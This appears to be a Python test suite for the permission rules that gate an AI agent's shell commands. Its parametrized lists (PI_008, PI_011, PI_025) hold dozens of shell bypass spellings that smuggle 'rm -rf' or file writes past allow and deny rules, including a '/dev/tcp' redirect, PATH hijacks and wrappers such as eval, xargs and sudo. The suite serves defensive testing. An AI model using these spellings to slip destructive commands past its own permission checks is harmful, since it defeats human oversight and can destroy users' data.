"""Ways around other guards, each with its right behaviour."""

from __future__ import annotations

import os
from pathlib import Path

import anyio
import pytest
from permissions_rules_calls import ACCESS, AGENT, call, permissions, shell, verdict

from seam.tools_def import Read, Run

pytestmark = pytest.mark.anyio


async def test_pi_003_a_nul_byte_is_a_typed_refusal_and_the_next_call_is_fine() -> None:
    policy = permissions(allow=["cat *"])
    decision = await policy.decide(shell("cat /tmp/foo\0bar"), AGENT, ACCESS)
    assert decision is not None
    assert decision.verdict == "deny"
    assert "invalid command" in decision.reason
    assert "NUL byte" in decision.reason
    assert await verdict(policy, call(Read(path="/tmp/\0"))) == "deny"
    assert (
        await verdict(policy, call(Run(dialect="argv", text="", argv=("cat", "a\0b"), workdir="/w")))
        == "deny"
    )
    assert policy.covers("run cat *", shell("cat a\0b"), AGENT, ACCESS) is False
    assert policy.offers(shell("cat a\0b"), AGENT, ACCESS) == ()
    explained = await policy.explain(shell("cat a\0b"), AGENT, ACCESS)
    assert isinstance(explained, dict)
    assert explained["verdict"] == "deny"
    assert await verdict(policy, shell("cat /tmp/foo")) == "allow"


async def test_pi_004_scripts_are_never_opened_whatever_lies_there(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "fifo")
    (tmp_path / "folder").mkdir()
    (tmp_path / "binary").write_bytes(bytes(range(256)) * 100)
    with (tmp_path / "huge").open("wb") as huge:
        huge.truncate(2 << 30)
    (tmp_path / "unreadable").touch(mode=0)
    policy = permissions(allow=["/usr/bin/python3 --version", "bash *"], deny=["rm -rf *"])
    assert await verdict(policy, shell("/usr/bin/python3 --version")) == "allow"
    with anyio.fail_after(20):
        for name in ("fifo", "folder", "binary", "huge", "unreadable", "missing"):
            assert await verdict(policy, shell(f"bash {tmp_path / name}")) == "ask"


async def test_pi_005_a_script_is_asked_about_whatever_bytes_it_holds(tmp_path: Path) -> None:
    script = tmp_path / "s.sh"
    script.write_bytes(b"echo hi\0\nrm -rf /tmp/zz\n")
    policy = permissions(allow=["bash *", "sh *"], deny=["rm -rf *"])
    for text in (
        f"bash {script}",
        f"cd {tmp_path} && bash s.sh",
        f". {script}",
        f"source {script}",
        f"bash < {script}",
    ):
        assert await verdict(policy, shell(text)) == "ask", text


PI_008 = [
    "git status; touch /tmp/p", "ls\ntouch /tmp/p", "ls | tee /tmp/p", "ls > /tmp/p", "ls & touch /tmp/p", "ls <(touch /tmp/p)",
    "ls >> /tmp/p", "ls >| /tmp/p", "ls &> /tmp/p", "ls 2> /tmp/p", "ls >&/tmp/p", "ls <> /tmp/p", "> /tmp/p ls", "ls $(touch /tmp/p)",
    "ls `touch /tmp/p`", 'ls "$(touch /tmp/p)"', "ls ${x:-$(touch /tmp/p)}", "ls || touch /tmp/p", "git status && touch /tmp/p",
    "(touch /tmp/p)", "{ touch /tmp/p; }", "ls; # comment\ntouch /tmp/p", "ls <<< $(touch /tmp/p)", "ls <<EOF\n$(touch /tmp/p)\nEOF",
    "git status\r\ntouch /tmp/p", "ls\\\n; touch /tmp/p", "git() { touch /tmp/p; }; git status", "PATH=/tmp ls", "export PATH=/tmp; ls",
    "for PATH in /tmp; do ls; done", "hash -p /tmp/evil ls; ls", "printf -v PATH /tmp; ls", "alias ls='touch /tmp/p'\nls",
    "ls $((x[$(touch /tmp/p)]))", "ls ${x[$(touch /tmp/p)]}", "ls ${x@P}", "./ls", "/tmp/ls", "ls\u00a0; touch /tmp/p", "$x ls",
    "ls > /dev/tcp/10.0.0.1/80", "ls |& tee /tmp/p", "time touch /tmp/p", "if ls; then touch /tmp/p; fi", "ls > >(touch /tmp/p)",
    "git status extra", "ls -la; ", "coproc touch /tmp/p", "case x in x) touch /tmp/p;; esac", "ls \\\n && touch /tmp/p",
    "ls 3> /tmp/p", "ls {fd}> /tmp/p", "[[ $(touch /tmp/p) ]]", "(( x[$(touch /tmp/p)] ))", "trap 'touch /tmp/p' EXIT; ls",
]  # fmt: skip


@pytest.mark.parametrize("text", PI_008)
async def test_pi_008_an_allow_is_for_the_whole_and_never_for_a_prefix(text: str) -> None:
    policy = permissions(allow=["git status", "ls"])
    assert await verdict(policy, shell("git status")) == "allow"
    assert await verdict(policy, shell("ls")) == "allow"
    assert await verdict(policy, shell("git status; ls | ls && ls 2>&1 > /dev/null")) == "allow"
    assert await verdict(policy, shell(text)) in ("ask", "deny", "silent")
    # `silent` is only for what no rule has a part in: the tool's own need for approval decides then, and a shell is risky


PI_011 = {
    "git status && rm -rf /tmp/zz": "deny",
    "cd / && rm x": "deny",
    "env rm x": "deny",
    "/bin/rm x": "deny",
    "X=1 rm x": "deny",
    "\\rm x": "deny",
    'r""m x': "deny",
    "r'm' x": "deny",
    "$'\\x72m' x": "deny",
    'bash -c "rm x"': "deny",
    "sh -c 'git status; rm x'": "deny",
    "bash -c \"bash -c 'rm x'\"": "deny",
    "xargs rm": "deny",
    "git ls-files | xargs -0 -n 1 rm": "deny",
    "git status; env -i A=1 nice -n 5 timeout 3 rm x": "deny",
    "sudo -u root rm x": "deny",
    "find . -name x -exec rm {} \\;": "deny",
    "find . -exec rm {} +": "deny",
    "nohup setsid stdbuf -oL command -p rm x &": "deny",
    "exec rm x": "deny",
    "busybox rm x": "deny",
    "eval rm x": "deny",
    "eval 'git status; rm' x": "deny",
    "trap 'rm x' EXIT": "deny",
    "git status | while read f; do rm $f; done": "deny",
    "git status <(rm x)": "deny",
    "git status $(rm x)": "deny",
    "git status `rm x`": "deny",
    'git status "a $(rm x) b"': "deny",
    "git status ${x:-$(rm x)}": "deny",
    "cat <<EOF\n$(rm x)\nEOF": "deny",
    "git status <<< $(rm x)": "deny",
    "rm": "deny",
    "rm\\\n x": "deny",
    "$x x": "ask",
    "$(echo rm) x": "ask",
    "{rm,x}": "ask",
    "eval $x": "ask",
    "bash -c $x": "ask",
    "echo rm x | sh": "ask",
    "bash <<EOF\nrm x\nEOF": "ask",
    "bash <<< 'rm x'": "ask",
    "ssh host rm x": "ask",
    "ssh host 'rm x'": "ask",
    "watch 'rm x'": "ask",
    "su -c 'rm x'": "ask",
    "flock /tmp/lock rm x": "ask",
    "parallel rm ::: x": "ask",
    "env -S 'rm x'": "ask",
    "unheard-of-wrapper --now rm x": "ask",
    "unheard-of-wrapper 'git status; rm x'": "ask",
    "git -c alias.x='!rm y' x": "silent",
}


@pytest.mark.parametrize("text", PI_011)
async def test_pi_011_a_deny_is_for_every_command_of_a_chain_and_every_wrapping(text: str) -> None:
    policy = permissions(
        deny=["rm *"],
        allow=["git *", "unheard-of-wrapper *", "watch *", "ssh *", "flock *", "su *", "echo *"],
    )
    expected = PI_011[text]
    if (
        expected == "silent"
    ):  # inside an argument of a program that the deployment trusts: out of scope, see docs/permissions.md
        assert await verdict(policy, shell(text)) == "allow"
    else:
        assert await verdict(policy, shell(text)) == expected


async def test_pi_012_input_redirects_add_no_authority_and_output_redirects_ask() -> None:
    policy = permissions(allow=["cut *"])
    for text in (
        "cut -d' ' -f1 <<< 'a b'",
        "cut -f1 < in.txt",
        "cut -f1 <<'EOF'\na b\nEOF",
        "cut -f1 < in.txt 2>&1",
        "cut -f1 2>/dev/null",
    ):
        assert await verdict(policy, shell(text)) == "allow", text
    for text in (
        "cut -f1 > out.txt",
        "cut -f1 < in.txt >> out.txt",
        "cut -f1 &> out",
        "cut -f1 <> both",
        "cut -f1 > $x",
    ):
        assert await verdict(policy, shell(text)) == "ask", text


PI_025 = {
    "(rm -rf /tmp/z)": "deny",
    "{ rm -rf /tmp/z; }": "deny",
    "if true; then rm -rf /tmp/z; fi": "deny",
    "time rm -rf /tmp/z": "deny",
    "! rm -rf /tmp/z": "deny",
    "command rm -rf /tmp/z": "deny",
    "f(){ rm -rf /tmp/z; }; f": "deny",
    "echo x |xargs rm -rf /tmp/z": "deny",
    "rm  -rf /tmp/z": "deny",
    "rm -rf": "deny",
    "rm -rf $x": "deny",
    "until rm -rf /tmp/z; do :; done": "deny",
    "for x in 1; do rm -rf $x; done": "deny",
    "rm -fr /tmp/z": "ask",
    "rm -r -f /tmp/z": "ask",
    "rm /tmp/z -rf": "ask",
    "rm --recursive --force /tmp/z": "ask",
    "rm -Rf /tmp/z": "ask",
    "rm -v -rf /tmp/z": "ask",
    "rm $x /tmp/z": "ask",
    "rm file": "allow",
}


@pytest.mark.parametrize("text", PI_025)
async def test_pi_025_compound_forms_are_denied_and_other_spellings_are_asked_about(text: str) -> None:
    policy = permissions(deny=["rm -rf *"], allow=["rm *", "echo *", "xargs *"])
    assert await verdict(policy, shell(text)) == PI_025[text]
